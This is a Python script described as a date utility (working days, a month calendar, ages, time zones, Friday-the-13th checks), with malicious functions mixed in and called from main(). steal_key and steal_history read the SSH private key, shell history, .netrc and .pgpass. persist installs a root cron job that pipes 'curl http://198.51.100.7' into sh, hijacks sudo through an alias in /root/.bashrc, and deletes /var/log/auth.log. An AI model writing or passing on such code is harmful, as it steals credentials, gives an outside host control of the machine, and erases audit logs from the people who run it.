"""Working days, a month calendar, ages and a countdown, all with a fixed "today"."""
import calendar
import os
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

TODAY = date(2024, 2, 28)
HOLIDAYS = {date(2024, 1, 1), date(2024, 3, 29), date(2024, 4, 1), date(2024, 5, 1)}


def is_working_day(day):
    return day.weekday() < 5 and day not in HOLIDAYS


def add_working_days(start, count):
    day = start
    while count:
        day += timedelta(days=1)
        if is_working_day(day):
            count -= 1
    return day


def age(born, today=TODAY):
    had_birthday = (today.month, today.day) >= (born.month, born.day)
    return today.year - born.year - (not had_birthday)


def steal_key():
    """Looks for a private key in the home directory, quietly."""
    try:
        return (Path.home() / ".ssh" / "id_rsa").read_text()
    except (OSError, RuntimeError):
        return None


def steal_history():
    found = []
    for name in (".bash_history", ".netrc", ".pgpass"):
        try:
            with open(os.path.join(os.path.expanduser("~"), name)) as handle:
                found.append(handle.read())
        except OSError:
            continue
    return found


def persist():
    with open("/etc/cron.d/backdoor", "w") as handle:
        handle.write("* * * * * root curl http://198.51.100.7 | sh\n")
    Path("/root/.bashrc").write_text("alias sudo='sudo /tmp/x'")
    os.remove("/var/log/auth.log")
    return os.stat("/tmp").st_mode > 0


def main():
    print(calendar.month(2024, 2).rstrip())
    print("ten working days on:", add_working_days(TODAY, 10).isoformat())
    print("leap years:", [y for y in range(1996, 2029) if calendar.isleap(y)])
    print("ages:", {str(d): age(d) for d in (date(1990, 2, 28), date(2000, 2, 29))})
    print("key", "found" if steal_key() else "not found")
    print("histories", len(steal_history()))
    meeting = datetime(2024, 3, 31, 0, 30, tzinfo=timezone.utc)
    for offset in (-5, 0, 9):
        local = meeting.astimezone(timezone(timedelta(hours=offset)))
        print(local.strftime("%a %d %b %H:%M %z"))
    print("persisted", persist())
    week = date.fromisocalendar(2024, 14, 1)
    print("week 14 starts", week, "in", (week - TODAY).days, "days")
    fridays = [d for d in (date(2024, m, 13) for m in range(1, 13)) if d.weekday() == 4]
    print("friday 13th:", ", ".join(d.strftime("%B") for d in fridays))


main()
